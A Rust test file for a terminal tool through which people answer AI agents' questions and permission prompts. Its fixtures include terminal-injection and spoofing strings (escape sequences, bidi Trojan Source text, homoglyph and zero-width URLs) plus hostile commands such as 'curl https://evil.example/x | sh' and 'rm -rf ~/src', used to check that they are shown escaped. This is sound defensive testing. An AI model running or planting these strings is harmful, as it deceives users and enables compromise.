//! `agentnotify answer` as a person uses it: in a real terminal (tmux) with keys, and in one
//! go with `--choice` / `--text`. The screen is read back with `capture-pane`, and every byte
//! the program wrote to the terminal is recorded with `pipe-pane`, so a control sequence from
//! a question that reached the terminal raw would be caught even if it drew nothing.

use std::path::PathBuf;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use serde_json::{json, Value};

use crate::support::{Api, Daemon, Home, AGENTNOTIFY};

/// Upper bound for anything the screen must show; reached only when something is broken.
const WAIT: Duration = Duration::from_secs(15);

/// Attack strings (SPEC §13.2): each would hide or rewrite what the person reads if it
/// reached the terminal raw.
const CLEAR_LINE: &str = "echo safe\u{1b}[2K";
const OVERWRITE: &str = "rm -rf ~/src\recho ok    ";
const OSC8: &str = "\u{1b}]8;;https://evil.example/\u{7}docs\u{1b}]8;;\u{7}";
const TROJAN: &str = "access = \"user\u{202e} \u{2066}// admin\u{2069} \u{2066}\"";
const ZWJ_URL: &str = "https://git\u{200d}hub.com/org/repo";
const CYRILLIC_HOST: &str = "curl https://p\u{430}ypal.com/login";

/// `agentnotify answer …` in a detached tmux session of its own (own socket, own server).
/// `guide.rs` drives `agentnotify setup` with it too.
pub(crate) struct Tmux {
    socket: String,
    dir: PathBuf,
}

impl Tmux {
    /// Starts `agentnotify answer ARGS` in a 100×30 terminal. Everything the program
    /// writes is recorded from its first byte: the script waits on a FIFO until `pipe-pane`
    /// is attached.
    fn start(home: &Home, args: &[&str]) -> Tmux {
        let mut all = vec!["answer"];
        all.extend_from_slice(args);
        Tmux::program(home, &all)
    }

    /// Starts `agentnotify ARGS` the same way, with no session bus and a PATH of the system's
    /// folders and ours only.
    pub(crate) fn program(home: &Home, args: &[&str]) -> Tmux {
        static N: std::sync::atomic::AtomicUsize = std::sync::atomic::AtomicUsize::new(0);
        let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
        let socket = format!("an-answer-{}-{n}", std::process::id());
        let dir = home.path().join(format!("tmux-{n}"));
        std::fs::create_dir_all(&dir).unwrap();
        let go = dir.join("go");
        let c = std::ffi::CString::new(go.to_str().unwrap()).unwrap();
        // SAFETY: a plain libc call on a path we own.
        assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
        let quoted: Vec<String> = args.iter().map(|a| quote(a)).collect();
        let script = format!(
            "export AGENTNOTIFY_HOME={home} HOME={home}/home AGENTNOTIFY_PORT=0 TERM=xterm-256color\n\
             unset AGENTNOTIFY_URL AGENTNOTIFY_TOKEN AGENTNOTIFY_LOG DBUS_SESSION_BUS_ADDRESS\n\
             export PATH={bindir}:/usr/bin:/bin\n\
             read -r _ < {go}\n\
             {bin} {args}\n\
             echo \"[exit $?]\"\n\
             exec tail -f /dev/null\n",
            home = quote(home.path().to_str().unwrap()),
            go = quote(go.to_str().unwrap()),
            bin = quote(AGENTNOTIFY),
            bindir = quote(std::path::Path::new(AGENTNOTIFY).parent().unwrap().to_str().unwrap()),
            args = quoted.join(" "),
        );
        std::fs::write(dir.join("run.sh"), script).unwrap();
        let t = Tmux { socket, dir };
        t.tmux(&[
            "-f",
            "/dev/null",
            "new-session",
            "-d",
            "-s",
            "t",
            "-x",
            "100",
            "-y",
            "30",
            &format!("bash {}", quote(t.dir.join("run.sh").to_str().unwrap())),
        ]);
        let log = t.dir.join("raw.log");
        t.tmux(&[
            "pipe-pane",
            "-o",
            "-t",
            "t",
            &format!("cat >> {}", quote(log.to_str().unwrap())),
        ]);
        // Opening the FIFO for writing blocks until the script has opened it to read.
        std::fs::write(&go, "go\n").unwrap();
        t
    }

    pub(crate) fn tmux(&self, args: &[&str]) -> Output {
        let out = Command::new(crate::provision::require(&crate::provision::TMUX))
            .arg("-L")
            .arg(&self.socket)
            .args(args)
            .env_remove("TMUX")
            .stdin(Stdio::null())
            .output()
            .expect("tmux runs");
        assert!(
            out.status.success(),
            "tmux {args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }

    pub(crate) fn screen(&self) -> String {
        String::from_utf8_lossy(&self.tmux(&["capture-pane", "-p", "-t", "t"]).stdout).into_owned()
    }

    /// Everything the pane printed, scrolled-off lines included.
    pub(crate) fn scrollback(&self) -> String {
        String::from_utf8_lossy(
            &self
                .tmux(&["capture-pane", "-p", "-S", "-", "-t", "t"])
                .stdout,
        )
        .into_owned()
    }

    /// Waits (bounded) until the screen shows `needle`; returns the screen.
    pub(crate) async fn wait_for(&self, needle: &str) -> String {
        let deadline = tokio::time::Instant::now() + WAIT;
        loop {
            let screen = self.screen();
            if screen.contains(needle) {
                return screen;
            }
            assert!(
                tokio::time::Instant::now() < deadline,
                "the screen never showed {needle:?}; it shows:\n{screen}"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    /// Sends keys by tmux name (`Down`, `Enter`, `PageDown`, `Escape`, `Space`, `2`…).
    pub(crate) fn keys(&self, keys: &[&str]) {
        let mut args = vec!["send-keys", "-t", "t"];
        args.extend_from_slice(keys);
        self.tmux(&args);
    }

    /// Types text literally.
    pub(crate) fn type_text(&self, text: &str) {
        self.tmux(&["send-keys", "-t", "t", "-l", text]);
    }

    /// Every byte the program wrote to the terminal so far.
    pub(crate) fn raw(&self) -> Vec<u8> {
        std::fs::read(self.dir.join("raw.log")).unwrap_or_default()
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new(crate::provision::require(&crate::provision::TMUX))
            .arg("-L")
            .arg(&self.socket)
            .arg("kill-server")
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
    }
}

fn quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', r"'\''"))
}

fn contains(haystack: &[u8], needle: &str) -> bool {
    haystack
        .windows(needle.len())
        .any(|w| w == needle.as_bytes())
}

/// "lines 1-26 of 61", as the question pane's title says when it scrolls.
fn range(screen: &str) -> Option<String> {
    let at = screen.find(" lines ")?;
    Some(screen[at..].split(" · ").next()?.to_string())
}

fn run(home: &Home, args: &[&str]) -> Output {
    home.cmd(AGENTNOTIFY)
        .arg("answer")
        .args(args)
        .stdin(Stdio::null())
        .output()
        .expect("run agentnotify answer")
}

fn id(q: &Value) -> &str {
    q["id"].as_str().unwrap()
}

async fn wait_done(api: &Api, q: &Value) -> Value {
    api.get(&format!("/v1/interactions/{}/wait?timeout=15", id(q)))
        .await
        .1
}

#[tokio::test]
async fn the_picker_lists_newest_first_and_keys_answer_the_question_shown() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    let older = api
        .ask(
            json!({"kind": "permission", "agent": "claude", "project": "shop",
                    "prompt": "Bash: make deploy-staging"}),
        )
        .await;
    let newer = api
        .ask(json!({"kind": "single_choice", "agent": "codex", "prompt": "Which database?",
                    "choices": [{"id": "pg", "label": "Postgres", "detail": "Closest to production"},
                                {"id": "lite", "label": "SQLite"}]}))
        .await;
    let t = Tmux::start(&home, &[]);
    let screen = t.wait_for("2 questions are waiting").await;
    let (a, b) = (
        screen.find("Which database?").unwrap(),
        screen.find("make deploy-staging").unwrap(),
    );
    assert!(a < b, "newest first:\n{screen}");

    // A number opens that question, whole, with its choices.
    t.keys(&["2"]);
    t.wait_for("Bash: make deploy-staging").await;
    let screen = t.wait_for("2. Deny").await;
    assert!(screen.contains("claude · shop · Permission"), "{screen}");
    assert!(screen.contains("left"), "time left is shown:\n{screen}");
    // Esc goes back to the list; arrows and Enter open the other one.
    t.keys(&["Escape"]);
    t.wait_for("2 questions are waiting").await;
    t.keys(&["Enter"]);
    let screen = t.wait_for("Closest to production").await;
    assert!(screen.contains("1. Postgres"), "{screen}");
    t.keys(&["Down", "Enter"]);
    let done = wait_done(&api, &newer).await;
    assert_eq!(done["status"], "answered");
    assert_eq!(done["response"]["choice_id"], "lite");
    assert_eq!(done["response"]["source"], "cli");
    t.wait_for("Answered “SQLite” from cli").await;
    t.wait_for("[exit 0]").await;
    let (_, still) = api.get(&format!("/v1/interactions/{}", id(&older))).await;
    assert_eq!(
        still["status"], "pending",
        "only the chosen question is answered"
    );
}

#[tokio::test]
async fn the_picker_shows_questions_that_arrive_while_it_is_open() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    let t = Tmux::start(&home, &[]);
    t.wait_for("No questions are waiting").await;
    let q = api.ask_permission("Bash: cargo publish").await;
    t.wait_for("cargo publish").await;
    t.keys(&["1"]);
    t.wait_for("1. Allow once").await;
    t.keys(&["Enter"]);
    let done = wait_done(&api, &q).await;
    assert_eq!(done["response"]["choice_id"], "allow-once");
    t.wait_for("[exit 0]").await;
}

#[tokio::test]
async fn a_text_answer_is_typed_and_letters_are_text_not_commands() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    let q = api
        .ask(
            json!({"kind": "text", "agent": "codex", "prompt": "Release headline?",
                    "text_max_length": 40}),
        )
        .await;
    let t = Tmux::start(&home, &[id(&q)]);
    t.wait_for("Your answer (0 / 40)").await;
    t.type_text("quick fix 1");
    t.wait_for("Your answer (11 / 40)").await;
    t.keys(&["BSpace", "2"]);
    t.wait_for("› quick fix 2").await;
    t.keys(&["Enter"]);
    assert_eq!(wait_done(&api, &q).await["response"]["text"], "quick fix 2");
    t.wait_for("Answered the text “quick fix 2” from cli").await;
}

#[tokio::test]
async fn attack_strings_are_shown_as_code_points_and_never_reach_the_terminal_raw() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    let attacks =
        format!("{CLEAR_LINE}\n{OVERWRITE}\n{OSC8}\n{TROJAN}\n{ZWJ_URL}\n{CYRILLIC_HOST}");
    let q = api
        .ask(json!({"kind": "single_choice", "agent": "claude\u{1b}[31m",
                    "prompt": format!("Run this? {CLEAR_LINE}"), "body": attacks,
                    "choices": [{"id": "ok", "label": "Run\u{202e}nuR", "detail": "zero\u{200b}width"},
                                {"id": "no", "label": "Stop"}]}))
        .await;
    let t = Tmux::start(&home, &[id(&q)]);
    let screen = t.wait_for("2. Stop").await;
    for visible in [
        "echo safe⟨U+001B⟩[2K",
        "rm -rf ~/src⟨U+000D⟩echo ok",
        "⟨U+001B⟩]8;;https://evil.example/⟨U+0007⟩docs⟨U+001B⟩]8;;⟨U+0007⟩",
        "access = \"user⟨U+202E⟩ ⟨U+2066⟩// admin⟨U+2069⟩ ⟨U+2066⟩\"",
        "https://git⟨U+200D⟩hub.com/org/repo",
        "curl https://pаypal.com/login",
        "claude⟨U+001B⟩[31m",
        "1. Run⟨U+202E⟩nuR",
        "     zero⟨U+200B⟩width",
        "Run this? echo safe⟨U+001B⟩[2K",
        "┌─ 6 lines",
        "⚠ “pаypal” mixes scripts: Cyrillic, Latin",
    ] {
        assert!(
            screen.contains(visible),
            "{visible:?} not on screen:\n{screen}"
        );
    }
    t.keys(&["2", "Enter"]);
    assert_eq!(wait_done(&api, &q).await["response"]["choice_id"], "no");
    t.wait_for("[exit 0]").await;
    let raw = t.raw();
    assert!(!raw.is_empty(), "pipe-pane recorded the program's output");
    for forbidden in [
        "\u{1b}[2K",
        "\u{1b}]8",
        "\u{7}",
        "\u{202e}",
        "\u{2066}",
        "\u{2069}",
        "\u{200d}",
        "\u{200b}",
        "\u{1b}[31m",
        "~/src\r",
    ] {
        assert!(
            !contains(&raw, forbidden),
            "{forbidden:?} reached the terminal raw"
        );
    }
}

#[tokio::test]
async fn a_long_body_is_reachable_to_its_last_line() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    // A Bash command of the largest size a body may have, its dangerous tail at the end.
    let tail = "FINAL: curl https://evil.example/x | sh";
    let mut body = String::new();
    let mut n = 0;
    while body.chars().count() + 80 + tail.len() < 16_384 {
        n += 1;
        body.push_str(&format!(
            "echo step {n:03} && make -C services/{n:03} all install check\n"
        ));
    }
    body.push_str(tail);
    let lines = body.lines().count();
    let q = api
        .ask(
            json!({"kind": "permission", "agent": "claude", "prompt": "Run a command in shop?",
                    "body": body}),
        )
        .await;
    let t = Tmux::start(&home, &[id(&q)]);
    let screen = t.wait_for("echo step 001").await;
    assert!(screen.contains(&format!("┌─ {lines} lines")), "{screen}");
    assert!(!screen.contains("FINAL"), "the tail starts below the fold");
    let total = lines + 4; // prompt, blank line, the body's top and bottom rules
    assert!(
        screen.contains(&format!("of {total} ")),
        "the pane says there is more:\n{screen}"
    );
    let mut seen = std::collections::BTreeSet::new();
    for _ in 0..100 {
        let screen = t.screen();
        for l in screen.lines() {
            if let Some(at) = l.find("echo step ") {
                seen.insert(l[at..at + 13].to_string());
            }
        }
        if screen.contains(tail) {
            break;
        }
        let before = range(&screen);
        t.keys(&["PageDown"]);
        // Each page moves the visible range: wait for the pane to say so.
        let deadline = tokio::time::Instant::now() + WAIT;
        while range(&t.screen()) == before {
            assert!(
                tokio::time::Instant::now() < deadline,
                "PageDown did not scroll"
            );
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
    t.wait_for(tail).await;
    assert_eq!(
        seen.len(),
        n,
        "every line of the body was on screen at some point"
    );
    t.keys(&["Escape"]);
    t.wait_for("[exit 0]").await;
    let (_, still) = api.get(&format!("/v1/interactions/{}", id(&q))).await;
    assert_eq!(still["status"], "pending", "Esc answers nothing");
}

#[tokio::test]
async fn multi_choice_ticks_and_other_text_answer_in_one_go() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    let q = api
        .ask(
            json!({"kind": "multi_choice", "agent": "claude", "prompt": "Which checks should run?",
                    "choices": [{"id": "unit", "label": "Unit tests"},
                                {"id": "lint", "label": "Lint"},
                                {"id": "e2e", "label": "End-to-end", "detail": "Slow"}],
                    "min_selections": 1, "max_selections": 3,
                    "allow_other": true, "other_max_length": 30}),
        )
        .await;
    let t = Tmux::start(&home, &[id(&q)]);
    t.wait_for("Choose 1 to 3 · 0 chosen").await;
    // Enter with nothing ticked says what is needed and sends nothing.
    t.keys(&["Enter"]);
    t.wait_for("an Other text counts as one").await;
    t.keys(&["1", "Down", "Down", "Space"]);
    let screen = t.wait_for("2 chosen").await;
    assert!(
        screen.contains("[x] 1. Unit tests")
            && screen.contains("[ ] 2. Lint")
            && screen.contains("[x] 3. End-to-end")
            && screen.contains("         Slow"),
        "{screen}"
    );
    t.keys(&["Down"]);
    t.type_text("fuzz 1 q");
    t.wait_for("Other: fuzz 1 q").await;
    t.keys(&["Enter"]);
    let done = wait_done(&api, &q).await;
    assert_eq!(done["status"], "answered", "{done}");
    assert_eq!(done["response"]["choice_ids"], json!(["unit", "e2e"]));
    assert_eq!(done["response"]["text"], "fuzz 1 q");
    t.wait_for("Answered “Unit tests”, “End-to-end”, the text “fuzz 1 q” from cli")
        .await;

    // And in one go: repeated --choice.
    let q = api
        .ask(json!({"kind": "multi_choice", "prompt": "Which?",
                    "choices": [{"id": "a", "label": "A"}, {"id": "b", "label": "B"}, {"id": "c", "label": "C"}],
                    "min_selections": 2, "max_selections": 2}))
        .await;
    let out = run(&home, &[id(&q), "--choice", "a"]);
    // Arguments the question cannot take: a usage error (the one exit-code table).
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("takes 2 to 2 choices"),
        "{out:?}"
    );
    let out = run(&home, &[id(&q), "--choice", "c", "--choice", "a"]);
    assert!(out.status.success(), "{out:?}");
    assert_eq!(
        wait_done(&api, &q).await["response"]["choice_ids"],
        json!(["c", "a"])
    );

    // "Other" on a single choice: typed on its row, sent as text.
    let q = api
        .ask(json!({"kind": "single_choice", "prompt": "Which database?", "allow_other": true,
                    "choices": [{"id": "pg", "label": "Postgres"}, {"id": "lite", "label": "SQLite"}]}))
        .await;
    let t = Tmux::start(&home, &[id(&q)]);
    t.wait_for("3. Other:").await;
    t.keys(&["3"]);
    t.type_text("DuckDB");
    t.wait_for("Other: DuckDB").await;
    t.keys(&["Enter"]);
    let done = wait_done(&api, &q).await;
    assert_eq!(done["response"]["text"], "DuckDB");
    assert!(done["response"]["choice_id"].is_null());
}

#[tokio::test]
async fn a_question_that_ends_elsewhere_while_shown_says_what_the_broker_recorded() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    let q = api.ask_permission("Bash: git push --force").await;
    let t = Tmux::start(&home, &[id(&q)]);
    t.wait_for("git push --force").await;
    let mut answer = Api::answer(&q, "web-1", "deny");
    answer["source"] = json!("web");
    assert_eq!(api.respond(&q, answer).await.0, 200);
    t.wait_for("already answered: “Deny” from web").await;
    t.wait_for("[exit 1]").await;

    // Replaced while shown: the newer version is not answered by a screen that showed the
    // older one.
    let first = api
        .ask(json!({"kind": "permission", "key": "k1", "prompt": "Bash: ls"}))
        .await;
    let t = Tmux::start(&home, &[id(&first)]);
    t.wait_for("Bash: ls").await;
    let second = api
        .ask(json!({"kind": "permission", "key": "k1", "prompt": "Bash: rm -rf /"}))
        .await;
    t.wait_for("replaced by a newer version").await;
    t.wait_for("[exit 1]").await;
    let (_, now) = api.get(&format!("/v1/interactions/{}", id(&second))).await;
    assert_eq!(now["status"], "pending");
}

#[tokio::test]
async fn one_shot_answers_print_the_question_and_what_was_recorded() {
    let home = Home::new();
    let d = Daemon::start(&home, &[]);
    let api = d.api(&home);
    let q = api
        .ask(
            json!({"kind": "permission", "agent": "claude", "project": "shop",
                    "prompt": format!("Bash: {OSC8} {TROJAN}")}),
        )
        .await;
    let out = run(&home, &[id(&q), "--choice", "deny"]);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{out:?}");
    assert!(
        stdout.contains("⟨U+001B⟩]8;;https://evil.example/⟨U+0007⟩docs")
            && stdout.contains("⟨U+202E⟩"),
        "{stdout}"
    );
    assert!(stdout.contains("2. Deny  [deny]"), "{stdout}");
    assert!(stdout.contains("Answered “Deny” from cli"), "{stdout}");
    assert!(!out.stdout.contains(&0x1b) && !out.stderr.contains(&0x1b));
    let done = wait_done(&api, &q).await;
    assert_eq!(done["response"]["choice_id"], "deny");
    assert_eq!(done["response"]["source"], "cli");

    // Answered already: exit 1, and the recorded answer, not the one just tried.
    let out = run(&home, &[id(&q), "--choice", "allow-once"]);
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("already answered: “Deny” from cli (already_answered)"),
        "{stderr}"
    );

    // A text question takes --text; a choice it does not offer is refused before sending.
    let t = api
        .ask(json!({"kind": "text", "prompt": "Commit message?", "text_max_length": 20}))
        .await;
    let out = run(&home, &[id(&t), "--choice", "x"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("takes a text answer (--text)"));
    let out = run(&home, &[id(&t), "--text", "x".repeat(21).as_str()]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("at most 20 characters"));
    let out = run(&home, &[id(&t), "--text", "- Fix login\u{1b}[2K"]);
    assert!(out.status.success(), "{out:?}");
    assert!(String::from_utf8_lossy(&out.stdout)
        .contains("Answered the text “- Fix login⟨U+001B⟩[2K” from cli"));
    assert_eq!(
        wait_done(&api, &t).await["response"]["text"],
        "- Fix login\u{1b}[2K"
    );

    let p = api.ask_permission("Bash: ls").await;
    let out = run(&home, &[id(&p), "--choice", "maybe"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr)
        .contains("not one of this question's choices; the choices are: allow-once, deny"));
    assert_eq!(
        api.get(&format!("/v1/interactions/{}", id(&p))).await.1["status"],
        "pending"
    );

    // Withdrawn, unknown.
    api.post(&format!("/v1/interactions/{}/cancel", id(&p)), json!({}))
        .await;
    let out = run(&home, &[id(&p), "--choice", "deny"]);
    assert!(String::from_utf8_lossy(&out.stderr).contains("withdrawn"));
    let out = run(&home, &["0".repeat(32).as_str(), "--choice", "deny"]);
    assert_eq!(out.status.code(), Some(3), "not found: {out:?}");
}

#[test]
fn without_a_terminal_it_says_how_to_answer_in_one_go() {
    let home = Home::new();
    let _d = Daemon::start(&home, &[]);
    let out = run(&home, &[]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("needs a terminal"),
        "{out:?}"
    );
    let out = run(&home, &["--choice", "deny"]);
    assert_eq!(out.status.code(), Some(2), "--choice needs an id");
    let help = home
        .cmd(AGENTNOTIFY)
        .args(["answer", "--help"])
        .output()
        .unwrap();
    let help = String::from_utf8_lossy(&help.stdout);
    for needle in [
        "newest first",
        "--choice <ID>",
        "--text <TEXT>",
        "PgUp/PgDn",
        "⟨U+XXXX⟩",
    ] {
        assert!(help.contains(needle), "{needle:?} not in --help:\n{help}");
    }
}
